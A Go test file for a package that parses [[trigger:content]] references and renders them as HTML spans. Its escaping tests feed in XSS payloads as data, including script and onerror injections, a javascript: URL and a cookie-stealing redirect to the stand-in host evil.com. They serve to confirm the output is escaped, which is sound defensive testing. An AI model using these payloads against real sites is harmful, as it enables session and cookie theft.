package bracket

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func TestParse_NoReferences(t *testing.T) {
	for _, in := range []string{"Just plain text", "", "Partial [[partial:", "[[a]] [b:c] ]]"} {
		segs := Parse(in)
		if len(segs) != 1 {
			t.Fatalf("Parse(%q) returned %d segments, want 1", in, len(segs))
		}
		if segs[0].IsLink() || segs[0].Text != in {
			t.Errorf("Parse(%q) = %+v, want unchanged text", in, segs[0])
		}
	}
}

func TestParse_Artifact(t *testing.T) {
	segs := Parse("Check this [[demo:abc123]]")
	if len(segs) != 2 {
		t.Fatalf("len(segs) = %d, want 2", len(segs))
	}
	if segs[0].Text != "Check this " {
		t.Errorf("text = %q", segs[0].Text)
	}
	f := segs[1].Link
	if f == nil {
		t.Fatal("second segment is not a link")
	}
	if f.Trigger != "demo" || f.Kind != KindArtifact || f.Content != "abc123" {
		t.Errorf("fragment = %+v", *f)
	}
}

func TestParse_URLIsSite(t *testing.T) {
	segs := Parse("Visit [[site:https://example.com]]")
	f := segs[1].Link
	if f.Kind != KindSite || f.Content != "https://example.com" {
		t.Errorf("fragment = %+v", *f)
	}
	if !strings.Contains(f.HTML(), `data-content="https%3A%2F%2Fexample.com"`) {
		t.Errorf("html = %s", f.HTML())
	}
}

func TestParse_ExplicitKinds(t *testing.T) {
	cases := []struct {
		in      string
		kind    Kind
		content string
	}{
		{"See [[demo:artifact:abc123]]", KindArtifact, "abc123"},
		{"See [[demo:site:https://example.com]]", KindSite, "https://example.com"},
		{"See [[demo:site:plain-name]]", KindSite, "plain-name"},
		{"See [[demo:http://example.com/a?b=c]]", KindSite, "http://example.com/a?b=c"},
	}
	for _, c := range cases {
		segs := Parse(c.in)
		if len(segs) != 2 || segs[1].Link == nil {
			t.Fatalf("Parse(%q) = %+v", c.in, segs)
		}
		if got := segs[1].Link; got.Kind != c.kind || got.Content != c.content {
			t.Errorf("Parse(%q) = %+v, want kind %s content %q", c.in, *got, c.kind, c.content)
		}
	}
}

func TestParse_MultipleReferences(t *testing.T) {
	segs := Parse("First [[a:1]] and second [[b:2]]")
	if len(segs) != 4 {
		t.Fatalf("len(segs) = %d, want 4", len(segs))
	}
	want := []bool{false, true, false, true}
	for i, link := range want {
		if segs[i].IsLink() != link {
			t.Errorf("segs[%d].IsLink() = %v, want %v", i, segs[i].IsLink(), link)
		}
	}
	if segs[0].Text != "First " || segs[2].Text != " and second " {
		t.Errorf("texts = %q, %q", segs[0].Text, segs[2].Text)
	}
}

func TestParse_TrimsTriggerAndContent(t *testing.T) {
	segs := Parse("[[  my trigger : abc123  ]]")
	f := segs[0].Link
	if f == nil {
		t.Fatalf("expected link, got %+v", segs)
	}
	if f.Trigger != "my trigger" || f.Content != "abc123" {
		t.Errorf("fragment = %+v", *f)
	}
}

func TestParse_MalformedLeftAlone(t *testing.T) {
	in := "Not a [[bracket without colon]]"
	segs := Parse(in)
	if len(segs) != 1 || segs[0].Text != in {
		t.Errorf("segs = %+v", segs)
	}
}

func TestParse_EmptyContentIsNotAMatch(t *testing.T) {
	for _, in := range []string{"[[trigger:]]", "[[trigger:   ]]", "a [[t:  ]] b"} {
		segs := Parse(in)
		if len(segs) != 1 || segs[0].IsLink() || segs[0].Text != in {
			t.Errorf("Parse(%q) = %+v, want unchanged text", in, segs)
		}
	}
}

func TestParse_BlankContentMergesIntoText(t *testing.T) {
	in := "x [[t: ]] y [[ok:abc]] z"
	segs := Parse(in)
	if len(segs) != 3 {
		t.Fatalf("len(segs) = %d, want 3: %+v", len(segs), segs)
	}
	if segs[0].Text != "x [[t: ]] y " {
		t.Errorf("leading text = %q", segs[0].Text)
	}
}

func TestParse_NearestClosingBracketWins(t *testing.T) {
	segs := Parse("[[a:b]] c]]")
	if len(segs) != 2 || segs[0].Link == nil || segs[0].Link.Content != "b" {
		t.Fatalf("segs = %+v", segs)
	}
	if segs[1].Text != " c]]" {
		t.Errorf("tail = %q", segs[1].Text)
	}
}

func TestParse_OffsetsCoverInput(t *testing.T) {
	in := "α [[one:1]]β[[two:https://x.test/p]] γ"
	segs := Parse(in)
	pos := 0
	for _, s := range segs {
		if s.Start != pos {
			t.Fatalf("segment starts at %d, want %d", s.Start, pos)
		}
		if !s.IsLink() && in[s.Start:s.End] != s.Text {
			t.Errorf("text %q does not match input span %q", s.Text, in[s.Start:s.End])
		}
		pos = s.End
	}
	if pos != len(in) {
		t.Errorf("segments end at %d, want %d", pos, len(in))
	}
}

func TestDisplay_RoundTrip(t *testing.T) {
	in := "Read [[the essay:essay-one]] then [[the demo:artifact:abc]]."
	got := Display(Parse(in))
	want := "Read the essay then the demo."
	if got != want {
		t.Errorf("Display = %q, want %q", got, want)
	}
}

func TestParse_WhitespaceTriggerFallsBackToContent(t *testing.T) {
	segs := Parse("[[ :abc123]]")
	if segs[0].Link == nil || segs[0].Link.Trigger != "abc123" {
		t.Errorf("segs = %+v", segs)
	}
}

func TestHTML_Attributes(t *testing.T) {
	out := Parse("[[link:id]]")[0].Link.HTML()
	for _, want := range []string{
		`class="bracket-link"`,
		`data-trigger="link"`,
		`data-type="artifact"`,
		`data-content="id"`,
		`role="button"`,
		`tabindex="0"`,
		`>link</span>`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("html %q missing %q", out, want)
		}
	}
}

func TestHTML_ContentWithSpaces(t *testing.T) {
	out := Parse("[[demo:content with spaces]]")[0].Link.HTML()
	if !strings.Contains(out, `data-content="content%20with%20spaces"`) {
		t.Errorf("html = %s", out)
	}
}

func TestHTML_TriggerWithSpaces(t *testing.T) {
	out := Parse("[[my trigger:abc123]]")[0].Link.HTML()
	if !strings.Contains(out, `data-trigger="my trigger"`) {
		t.Errorf("html = %s", out)
	}
}

func TestHTML_EscapesTrigger(t *testing.T) {
	cases := []struct {
		in      string
		banned  []string
		wantSub []string
	}{
		{`[[<script>alert(1)</script>:abc123]]`, []string{"<script>"}, []string{"&lt;script&gt;", "&lt;/script&gt;"}},
		{`[[test" onmouseover="x:abc123]]`, []string{`" onmouseover`}, []string{"&quot;"}},
		{`[[test' onclick='alert(1):abc123]]`, []string{`' onclick`}, []string{"&#39;"}},
		{`[[test&test:abc123]]`, nil, []string{"test&amp;test"}},
		{`[[<img src=x onerror=alert(1)>:abc123]]`, []string{"<img"}, []string{"&lt;img", "&gt;"}},
		{`[[test"><img src=x>:abc123]]`, []string{"><img"}, []string{"&quot;&gt;&lt;img"}},
		{
			`[[</span><script>document.location="http://evil.com/?c="+document.cookie</script><span class=":abc123]]`,
			[]string{"</span><script>"},
			[]string{"&lt;/span&gt;&lt;script&gt;"},
		},
	}
	for _, c := range cases {
		segs := Parse(c.in)
		if len(segs) != 1 || segs[0].Link == nil {
			t.Fatalf("Parse(%q) = %+v, want one link", c.in, segs)
		}
		out := segs[0].Link.HTML()
		for _, b := range c.banned {
			if strings.Contains(out, b) {
				t.Errorf("html for %q contains %q: %s", c.in, b, out)
			}
		}
		for _, w := range c.wantSub {
			if !strings.Contains(out, w) {
				t.Errorf("html for %q missing %q: %s", c.in, w, out)
			}
		}
	}
}

// TestHTML_NoBreakout tokenizes emitted markup and checks that adversarial
// triggers and contents always produce exactly one span with the expected
// attributes and nothing else.
func TestHTML_NoBreakout(t *testing.T) {
	triggers := []string{
		`plain`,
		`<script>alert(1)</script>`,
		`" onmouseover="x`,
		`' onclick='y`,
		`&amp; already`,
		`</span><b>bold</b><span>`,
	}
	contents := []string{
		`abc123`,
		`https://example.com/?q="><script>`,
		`site:javascript:alert(1)`,
		`a b & c ' "`,
	}
	for _, tr := range triggers {
		for _, c := range contents {
			f := Classify(tr, c)
			assertSingleSpan(t, f)
		}
	}
}

func assertSingleSpan(t *testing.T, f Fragment) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(f.HTML()))
	var starts, ends int
	var text strings.Builder
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break
		}
		tok := z.Token()
		switch tt {
		case html.StartTagToken:
			starts++
			if tok.Data != "span" {
				t.Fatalf("unexpected element <%s> for %+v", tok.Data, f)
			}
			attrs := map[string]string{}
			for _, a := range tok.Attr {
				attrs[a.Key] = a.Val
			}
			if len(attrs) != 6 {
				t.Errorf("attrs = %v, want 6 for %+v", attrs, f)
			}
			if attrs["data-trigger"] != f.Trigger {
				t.Errorf("data-trigger = %q, want %q", attrs["data-trigger"], f.Trigger)
			}
			decoded, err := DecodeContent(attrs["data-content"])
			if err != nil || decoded != f.Content {
				t.Errorf("data-content decodes to %q (%v), want %q", decoded, err, f.Content)
			}
		case html.EndTagToken:
			ends++
		case html.TextToken:
			text.WriteString(tok.Data)
		default:
			t.Fatalf("unexpected token %v for %+v", tt, f)
		}
	}
	if starts != 1 || ends != 1 {
		t.Errorf("starts=%d ends=%d, want 1/1 for %+v", starts, ends, f)
	}
	if text.String() != f.Trigger {
		t.Errorf("text = %q, want %q", text.String(), f.Trigger)
	}
}

func TestEncodeDecodeContent(t *testing.T) {
	for _, in := range []string{"abc", "a b", "https://example.com/x?y=1&z=2", "100%+", "ünï"} {
		enc := EncodeContent(in)
		if strings.ContainsAny(enc, ` "'<>&+`) {
			t.Errorf("EncodeContent(%q) = %q contains unsafe characters", in, enc)
		}
		dec, err := DecodeContent(enc)
		if err != nil || dec != in {
			t.Errorf("DecodeContent(%q) = %q, %v; want %q", enc, dec, err, in)
		}
	}
}

func TestRender_EscapesText(t *testing.T) {
	out := Render(Parse(`a < b [[x:y]] & "c"`))
	want := `a &lt; b ` + Fragment{Trigger: "x", Kind: KindArtifact, Content: "y"}.HTML() + ` &amp; &quot;c&quot;`
	if out != want {
		t.Errorf("Render = %q, want %q", out, want)
	}
}

func TestLinks(t *testing.T) {
	links := Links(Parse("[[a:1]] x [[b:https://b.test]]"))
	if len(links) != 2 || links[0].Content != "1" || links[1].Kind != KindSite {
		t.Errorf("links = %+v", links)
	}
}
